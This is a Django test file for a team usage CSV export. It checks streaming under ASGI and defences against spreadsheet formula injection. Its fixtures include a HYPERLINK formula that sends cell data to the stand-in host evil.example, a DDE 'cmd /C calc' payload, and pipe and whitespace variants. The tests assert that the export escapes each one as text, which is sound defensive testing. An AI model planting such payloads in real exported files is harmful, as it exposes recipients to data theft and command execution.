"""The usage CSV as production serves it (uvicorn, ASGI): streamed, exactly the filtered rows."""

import csv
from datetime import timedelta
from io import StringIO

import httpx2
import pytest
from django.utils import timezone

from accounts.models import ApiKey
from accounts.services import api_key_create
from tests.factories import spend


@pytest.mark.django_db(transaction=True)
def test_the_export_streams_under_asgi_without_buffering(team, other_team, live_portal, recwarn):
    key, _ = api_key_create(team=team, name="app")
    theirs, _ = api_key_create(team=other_team, name="theirs")
    now = timezone.now()
    for n in range(1200):
        spend(team, key, "0.001", now - timedelta(seconds=n), f"exp{n}")
    spend(other_team, theirs, "0.5", now, "not-ours")
    _, secret = api_key_create(team=team, name="ops", kind=ApiKey.Kind.MANAGEMENT)
    chunks = []
    with httpx2.stream(
        "GET",
        f"{live_portal.url}/api/teams/acme/usage/export/?key={key.prefix}",
        headers={"Authorization": f"Bearer {secret}"},
        timeout=30,
    ) as response:
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        chunks = list(response.iter_bytes())
    rows = list(csv.DictReader(StringIO(b"".join(chunks).decode())))
    assert len(rows) == 1200 and {r["request_id"] for r in rows} == {f"exp{n}" for n in range(1200)}
    # Django buffers a sync iterator under ASGI and says so; the export must not need it.
    assert not [w for w in recwarn.list if "iterators" in str(w.message)]


@pytest.mark.django_db
def test_text_a_key_holder_chose_is_never_a_spreadsheet_formula(client, owner, team):
    from usage.models import UsageRecord

    key, _ = api_key_create(team=team, name="app")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    UsageRecord.objects.create(
        request_id="req_formula",
        team=team,
        api_key=key,
        endpoint="chat",
        requested_model="+cmd|' /C calc'!A0",
        model="",
        status="refused",
        error_message="-2+3",
        end_user=hostile,
        cost_usd=0,
    )
    client.force_login(owner)
    body = b"".join(client.get("/api/teams/acme/usage/export/").streaming_content).decode()
    [row] = list(csv.DictReader(StringIO(body)))
    assert row["end_user"] == "'" + hostile
    assert row["requested_model"].startswith("'+") and row["error_message"] == "'-2+3"
    assert row["cost_usd"] == "0.000000000000"  # numbers stay numbers


@pytest.mark.django_db
@pytest.mark.parametrize("end_user", [" =2+2", "|calc", "\t=1"])
def test_a_formula_behind_spaces_or_a_pipe_is_text_too(client, owner, team, end_user):
    from usage.models import UsageRecord

    key, _ = api_key_create(team=team, name="app")
    UsageRecord.objects.create(
        request_id="req_f",
        team=team,
        api_key=key,
        endpoint="chat",
        requested_model="m",
        status="refused",
        end_user=end_user,
        cost_usd=0,
    )
    client.force_login(owner)
    body = b"".join(client.get("/api/teams/acme/usage/export/").streaming_content).decode()
    [row] = list(csv.DictReader(StringIO(body)))
    assert row["end_user"] == "'" + end_user
